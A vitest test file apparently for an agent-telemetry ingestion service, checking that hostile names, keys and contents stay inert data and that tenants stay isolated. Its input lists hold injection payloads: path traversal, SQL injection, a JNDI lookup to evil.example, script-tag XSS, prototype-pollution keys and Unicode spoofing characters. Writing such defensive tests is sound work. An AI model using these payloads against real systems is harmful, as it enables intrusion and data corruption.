/** Names, keys and texts that are made to be taken for something else: they stay data all the way. */
import { describe, expect, it } from 'vitest'
import type { Alert } from '../../schema/alert.ts'
import { callCalls, callRequest, callSpan } from '../one-call.ts'
import { expectGoodEnd, KEYS, next, useWhole, warned } from './whole.ts'

const whole = useWhole()

/**
 * What was sent, and what is to be stored where it differs: names are one line, without what cannot be seen. Only the names
 * of tools keep that, for it is how one passes for another.
 */
const NAMES: readonly (readonly [sent: string, stored?: string, tool?: string])[] = [
  ['../../etc/passwd'],
  ['a/b'],
  ['a\0b', 'a b'],
  ['c\nd', 'c d'],
  ['red\u001b[31m', 'red [31m'],
  ['=cmd()'],
  ["'; DROP TABLE events; --"],
  ['" OR 1=1'],
  ['\\'],
  ["\\'"],
  ['{x:String}'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what attackers of other products write.
  ['${jndi:ldap://evil.example/a}'],
  ['%n%s%x'],
  ['<script>alert(1)</script>'],
  ['[a](https://evil.example)'],
  ['|CEF:0|a=b'],
  ['rtl\u202eoverride', 'rtloverride', 'rtl\u202eoverride'],
  ['zero\u200bwidth', 'zerowidth', 'zero\u200bwidth'],
  ['e\u0301 decomposed'],
  ['\u00e9 composed'],
  ['s\u0435arch with a Cyrillic e'],
  ['__proto__'],
  ['constructor'],
  ['prototype'],
  ['hasOwnProperty'],
  ['toString'],
  ['__other__'],
  ['null'],
  ['true'],
  ['-1'],
  ['1'],
  ['01'],
  ['1e999'],
  ['NaN'],
  ['*'],
  ['%'],
  ['_'],
  ['\u2028', ''],
  ['half \ud800 surrogate', 'half \ufffd surrogate'],
  ['x'.repeat(1_000_000), 'x'.repeat(512)],
  ['  spaces around  ', 'spaces around'],
]
const named = NAMES.filter(([sent, stored = sent]) => stored !== '')

describe('names of agents, sessions and tools', () => {
  it('are data all the way, whatever they are', async () => {
    await whole.send(
      named.map(([name]) => callSpan({ call: next(), agent: name, session: `s ${name.trim()}`, tool: name })),
      warned('3 texts were not valid UTF-8 and were repaired; 3 values were too long and were cut'),
    )
    await whole.settled()
    const wrong: unknown[] = []
    for (const [sent, stored = sent, tool = stored] of named) {
      const session = `s ${stored}`.slice(0, 512)
      for (const filter of [{ tool }, { agent: stored }, { session }]) {
        const found = await whole.events(filter)
        const seen = found.map((event) => [event.agent.id, event.session_id, event.tool?.name])
        if (JSON.stringify(seen) !== JSON.stringify([[stored, session, tool]])) {
          wrong.push([filter, seen])
        }
      }
    }
    expect(wrong).toEqual([])
  })

  it('are listed as agents, each once', async () => {
    const { body } = await whole.get<{ items: readonly { id: string }[] }>('agents')
    const ids = body.items.map(({ id }) => id)
    expect(new Set(ids).size).toBe(ids.length)
    expect(named.map(([sent, stored = sent]) => stored).filter((name) => !ids.includes(name))).toEqual([])
  })

  it('stand in titles and sentences of alerts only as printable ASCII that is no markup', async () => {
    await whole.settled()
    const { body } = await whole.get<{ items: readonly Alert[] }>('alerts?limit=1000')
    expect(body.items.length).toBeGreaterThanOrEqual(named.length - 5)
    for (const { title, reason, techniques, runbook } of body.items) {
      for (const text of [title, reason, ...runbook, ...techniques.map(({ name }) => name)]) {
        expect(text).toMatch(/^[\x20-\x7e]*$/)
        expect(text).not.toMatch(/<script|\]\(|https?:\/\/evil|\$\{jndi/)
      }
      expect(title.length).toBeLessThan(300)
    }
  })

  it('that are empty, blank or no text fall back to what else is known', async () => {
    const odd = (value: object) => {
      const span = callSpan({ call: next(), session: 'odd' }) as { attributes: { key: string; value: object }[] }
      const attributes = span.attributes.map((entry) => (entry.key === 'gen_ai.agent.id' ? { ...entry, value } : entry))
      return { ...span, attributes }
    }
    const values = [
      { stringValue: '' },
      { stringValue: ' \t\u200b' },
      {},
      { arrayValue: { values: [] } },
      { stringValue: null },
    ]
    await whole.send(values.map(odd), { service: 'the-service' })
    await whole.settled()
    const found = await whole.events({ session: 'odd' })
    expect(found.map(({ agent }) => agent.id)).toEqual(values.map(() => 'the-service'))
  })

  it("are one tenant's own: the same ids in two tenants never meet", async () => {
    const call = next()
    const request = callRequest({
      call,
      agent: 'shared',
      session: 'shared',
      tool: 'search',
      arguments: '{"of":"acme"}',
    })
    const other = callRequest({ call, agent: 'shared', session: 'shared', tool: 'shell', arguments: '{"of":"other"}' })
    expect(await callCalls(whole.telltale.otlpGrpc, request, KEYS.ingest)).toBe(0)
    expect(await callCalls(whole.telltale.otlpGrpc, other, KEYS.otherIngest)).toBe(0)
    await whole.settled()
    const mine = await whole.events({ session: 'shared' })
    const theirs = await whole.events({ session: 'shared' }, KEYS.otherRead)
    expect([mine, theirs].map((found) => found.map(({ tool }) => tool?.name))).toEqual([['search'], ['shell']])
    expect(mine[0]?.event_id).not.toBe(undefined)
    const foreign = await whole.get(`events/${theirs[0]?.event_id}`)
    expect(mine[0]?.event_id === theirs[0]?.event_id ? 404 : foreign.status).toBe(404)
    const alerts = await whole.get<{ items: readonly Alert[] }>('alerts?agent=shared')
    expect(alerts.body.items).toEqual([])
    const theirAlerts = await whole.get<{ items: readonly Alert[] }>('alerts?agent=shared', KEYS.otherRead)
    expect(theirAlerts.body.items).toHaveLength(1)
    const id = theirAlerts.body.items[0]?.alert_id
    expect((await whole.get(`alerts/${id}`)).status).toBe(404)
    expect((await whole.get(`alerts/${id}`, KEYS.otherRead)).status).toBe(200)
  })
})

describe('attributes and contents', () => {
  const NAMES_OF_ATTRIBUTES = [
    '__proto__',
    'constructor',
    'constructor.prototype.x',
    'a.__proto__.b',
    'toString',
    'hasOwnProperty',
    'then',
    'toJSON',
    'length',
    '',
    '0',
    '65536',
  ]

  it('keep their keys as they are, and nothing grows from dots', async () => {
    const more = Object.fromEntries(NAMES_OF_ATTRIBUTES.map((key) => [key, `of ${key}`]))
    Object.defineProperty(more, '__proto__', { value: 'of __proto__', enumerable: true })
    await whole.send(
      [callSpan({ call: next(), session: 'keys', more })],
      warned('1 attributes without a key, or with one that is too long, were dropped'),
    )
    await whole.settled()
    const [event] = await whole.events({ session: 'keys' })
    const attributes = event?.attributes as Record<string, unknown>
    for (const key of NAMES_OF_ATTRIBUTES.filter((each) => each !== '')) {
      expect([key, Object.getOwnPropertyDescriptor(attributes, key)?.value]).toEqual([key, `of ${key}`])
    }
  })

  it('keep their text to the character', async () => {
    const texts = [
      '\u0000 nul',
      '\u2028'.repeat(1000),
      "'); DROP TABLE events; --",
      '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}',
      `${'['.repeat(3000)}${']'.repeat(3000)}`,
      '\u202e\u200b invisible, and content is not a name',
      '{x:String} ? %s $1 :id',
      '\\N',
      '1e999',
    ]
    const sent = texts.map((text, index) => ({ call: next(), session: `text-${index}`, arguments: text, result: text }))
    await whole.send(sent.map(callSpan))
    await whole.settled()
    for (const [index, text] of texts.entries()) {
      const [event] = await whole.events({ session: `text-${index}` })
      expect([event?.content?.arguments, event?.content?.result]).toEqual([text, text])
    }
  })

  it('come in every wrong form without harm', async () => {
    const wrong = [
      { key: 'a', value: { stringValue: 7 } },
      { key: 'b', value: { intValue: 'abc' } },
      { key: 'c', value: { intValue: '99999999999999999999' } },
      { key: 'd', value: { doubleValue: 'NaN' } },
      { key: 'e', value: { doubleValue: 1e308 } },
      { key: 'f', value: { bytesValue: '!!' } },
      { key: 'g', value: { kvlistValue: { values: [{ key: '__proto__', value: { stringValue: 'x' } }] } } },
      { key: 'h', value: null },
      { key: 7, value: { boolValue: true } },
      null,
      'text',
      { value: { stringValue: 'no key' } },
    ]
    const span = callSpan({ call: next(), session: 'wrong-forms' }) as { attributes: object[] }
    await whole.send(
      [{ ...span, attributes: [...span.attributes, ...wrong] }],
      warned(
        '4 fields held a value of the wrong type and were unset; ' +
          '4 attributes without a key, or with one that is too long, were dropped',
      ),
    )
    await whole.settled()
    expect(await whole.events({ session: 'wrong-forms' })).toHaveLength(1)
  })
})

expectGoodEnd(whole)
